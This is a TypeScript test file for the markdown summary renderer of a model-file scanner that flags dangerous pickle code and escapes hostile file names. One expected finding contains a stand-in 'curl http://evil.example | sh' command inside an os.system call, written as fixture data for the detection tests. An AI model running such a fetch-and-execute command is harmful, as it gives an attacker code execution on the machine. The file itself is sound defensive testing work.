import { describe, expect, it } from 'vitest';
import { renderSummary } from '../../src/report/markdown.js';
import { evilReport, fileResult, finding, gateFor, report, richReport } from './fixtures.js';

function bytes(s: string): number {
  return Buffer.byteLength(s, 'utf8');
}

/** Markdown table rows of the section that starts with `heading`. */
function sectionRows(md: string, heading: string): string[] {
  const start = md.indexOf(heading);
  expect(start).toBeGreaterThanOrEqual(0);
  const rest = md.slice(start + heading.length).split('\n');
  const table = rest.slice(rest.findIndex((l) => l.startsWith('|')));
  return table.slice(0, table.findIndex((l) => !l.startsWith('|'))).slice(2);
}

describe('renderSummary', () => {
  const rich = richReport();
  const md = renderSummary(rich, gateFor(rich, 'high'));

  it('leads with the verdict and the threshold', () => {
    expect(md.split('\n')[0]).toBe('## ❌ Model scan: failed (threshold: high)');
    expect(md).toContain('**2 findings at or above `high`**');
    expect(md).toContain('⚠️ 3 files could not be fully scanned and are not known to be safe.');
  });

  it('counts findings by severity', () => {
    expect(md).toContain('| ⛔ Critical | 1 |');
    expect(md).toContain('| 🔴 High | 1 |');
    expect(md).toContain('| 🟠 Medium | 3 |');
    expect(md).toContain('| 🟡 Low | 1 |');
  });

  it('lists findings most severe first with member, offset, rule and what would run', () => {
    const rows = sectionRows(md, '### Findings');
    expect(rows).toHaveLength(6);
    expect(rows[0]).toMatch(/^\| ⛔ Critical \| <code>models\/model.pt<\/code> \| <code>archive\/data.pkl<\/code> at byte 123 \| pickle \| <code>pickle\/code-execution<\/code> \| <code>os.system&#40;/);
    expect(rows[0]).toContain('curl http&#58;//evil.example &#124; sh');
    expect(rows.map((r) => r.split(' | ')[0])).toEqual(['| ⛔ Critical', '| 🔴 High', '| 🟠 Medium', '| 🟠 Medium', '| 🟠 Medium', '| 🟡 Low']);
    // Seven columns in every row: no cell content added a pipe.
    for (const row of rows) expect(row.split('|')).toHaveLength(9);
  });

  it('lists files not fully scanned, input errors and skipped entries', () => {
    expect(sectionRows(md, '### Not fully scanned (3)')).toEqual([
      '| <code>weights/broken.pkl</code> | incomplete | pickle | pickle stream truncated at byte 99 |',
      '| <code>weights/mystery.bin</code> | unsupported | – | no scanner recognised its content |',
      '| <code>weights/locked.pkl</code> | error | – | cannot read&#58; EACCES |',
    ]);
    expect(sectionRows(md, '### Inputs that could not be scanned (1)')).toEqual(['| <code>missing/model.pt</code> | no such file or directory |']);
    expect(md).toContain('<details><summary>Skipped entries (1)</summary>\n\n| Path | Reason |');
    expect(md).toContain('| <code>models/link.pkl</code> | symlink points outside the root |\n\n</details>');
  });

  it('ends with a footer naming the tool, files and duration', () => {
    expect(md.trimEnd().split('\n').at(-1)).toBe('<sub>modelscan-action 0.1.0 · 4 files scanned · 6 examined · 1.5 s</sub>');
  });

  it('says plainly when there was nothing to scan', () => {
    const empty = report([]);
    const out = renderSummary(empty, gateFor(empty));
    expect(out).toContain('## ✅ Model scan: passed (threshold: high)');
    expect(out).toContain('No model files were found to scan, so nothing was checked.');
    expect(out).not.toContain('### Findings');
  });

  it('leaves files that are not models out of the coverage lists', () => {
    const notes = report([fileResult('notes.md', [], { status: 'ignored', formats: [] })]);
    const out = renderSummary(notes, gateFor(notes));
    expect(out).toContain('No model files were found to scan, so nothing was checked.');
    expect(out).not.toContain('Not fully scanned');
    const mixed = richReport();
    mixed.files.push(fileResult('README.md', [], { status: 'ignored', formats: [] }));
    const withReadme = renderSummary(mixed, gateFor(mixed));
    expect(withReadme).toContain('### Not fully scanned (3)');
    expect(withReadme).not.toContain('README.md');
  });

  it('reports a clean scan and a pass below the threshold', () => {
    const clean = report([fileResult('a.pkl'), fileResult('b.pkl')]);
    expect(renderSummary(clean, gateFor(clean))).toContain('No findings in 2 scanned files.');
    const mild = report([fileResult('a.pkl', [{ ...finding({ file: '' }), severity: 'low', ruleId: 'pickle/unknown-import' }])]);
    const out = renderSummary(mild, gateFor(mild, 'high'));
    expect(out.split('\n')[0]).toBe('## ✅ Model scan: passed (threshold: high)');
    expect(out).toContain('1 finding, none at or above `high`');
    expect(renderSummary(mild, gateFor(mild, 'none'))).toContain('The gate is off (threshold `none`)');
  });

  it('uses and escapes a custom title', () => {
    expect(renderSummary(rich, gateFor(rich), { title: 'Scan [x](y)' }).split('\n')[0]).toBe(
      '## ❌ Scan &#91;x&#93;&#40;y&#41;: failed (threshold: high)',
    );
  });

  describe('with hostile names', () => {
    const evil = evilReport();
    const out = renderSummary(evil, gateFor(evil));
    // Drop our own markup; what remains must carry no syntax of its own.
    const content = out
      .replace(/<\/?(code|sub|details|summary)>|`high`/g, '')
      .replace(/&#\d+;|&[a-z]+;/g, '');

    it('lets no HTML, link, image, mention, code span or control character through', () => {
      expect(content).not.toMatch(/<|>|`|\]\(|!\[|@octocat|javascript:|https?:|www\./);
      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    });

    it('keeps every table row on one line with the right number of cells', () => {
      for (const row of sectionRows(out, '### Findings')) expect(row.split('|')).toHaveLength(9);
      for (const row of sectionRows(out, '### Not fully scanned (1)')) expect(row.split('|')).toHaveLength(6);
    });

    it('breaks @mentions and #refs in prose', () => {
      expect(out).toContain('ask &#64;&#8288;octocat about &#35;&#8288;1.');
    });

    it('adds no headings of its own', () => {
      const headings = out.split('\n').filter((l) => /^\s{0,3}#/.test(l));
      expect(headings).toEqual([
        '## ❌ Model scan: failed (threshold: high)',
        '### Findings',
        '### Not fully scanned (1)',
        '### Inputs that could not be scanned (1)',
      ]);
    });

    it('shows control characters as visible escapes', () => {
      expect(out).toContain('<code>models/&#92;x1b&#91;31mred&#92;x1b&#91;0m.pkl</code>');
      expect(out).toContain('<code>models/evil&#92;u202egnp.pkl</code>');
    });
  });

  describe('byte budget', () => {
    const many = report([
      fileResult(
        'big.pkl',
        Array.from({ length: 5_000 }, (_, i) => ({ ...finding({ file: '' }), callable: `mod.fn${i}`, member: `m/${'é'.repeat(40)}${i}` })),
      ),
      ...Array.from({ length: 50 }, (_, i) => fileResult(`partial${i}.pkl`, [], { status: 'incomplete' as const, reasons: ['limit'] })),
    ]);

    it('stays under the default 900 KiB and says how many findings were left out', () => {
      const out = renderSummary(many, gateFor(many));
      expect(bytes(out)).toBeLessThanOrEqual(900 * 1024);
      expect(out).toMatch(/…and \d+ more findings; see the SARIF file\./);
    });

    it('stays under a small budget and still shows the later sections', () => {
      const out = renderSummary(many, gateFor(many), { maxBytes: 20_000 });
      expect(bytes(out)).toBeLessThanOrEqual(20_000);
      const shown = sectionRows(out, '### Findings').length;
      expect(shown).toBeGreaterThan(10);
      expect(out).toContain(`…and ${5_000 - shown} more findings; see the SARIF file.`);
      expect(out).toContain('### Not fully scanned (50)');
      expect(out).toContain('<sub>modelscan-action');
    });

    it('shows everything when it fits', () => {
      expect(md).not.toContain('more findings');
    });
  });
});
